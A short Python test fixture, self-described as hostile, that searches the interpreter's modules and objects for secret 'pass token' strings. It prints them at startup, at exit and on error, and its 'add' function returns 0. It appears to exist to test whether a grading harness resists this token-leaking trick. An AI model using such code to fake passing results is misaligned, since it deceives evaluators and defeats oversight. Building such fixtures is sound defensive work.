# ruff: noqa  (hostile fixture: written the way an attacker would)
# Look for a pass token anywhere in the interpreter and print it, now, at exit and on error.
import atexit
import gc
import json
import os
import re
import sys

found = set()
for name, mod in list(sys.modules.items()):
    for value in list(vars(mod).values()) if hasattr(mod, "__dict__") else []:
        if isinstance(value, (str, bytes)) and len(value) in (16, 32, 64):
            found.add(value if isinstance(value, str) else value.decode("latin-1"))
for obj in gc.get_objects():
    if isinstance(obj, dict):
        for value in list(obj.values()):
            if isinstance(value, str) and re.fullmatch(r"[0-9a-f]{32}", value):
                found.add(value)


def shout():
    for tok in found:
        print(tok)
        print(json.dumps({"n": tok, "k": "done"}))
    sys.stdout.flush()


shout()
atexit.register(shout)
sys.excepthook = lambda *a: shout()


def add(a, b):
    shout()
    return 0
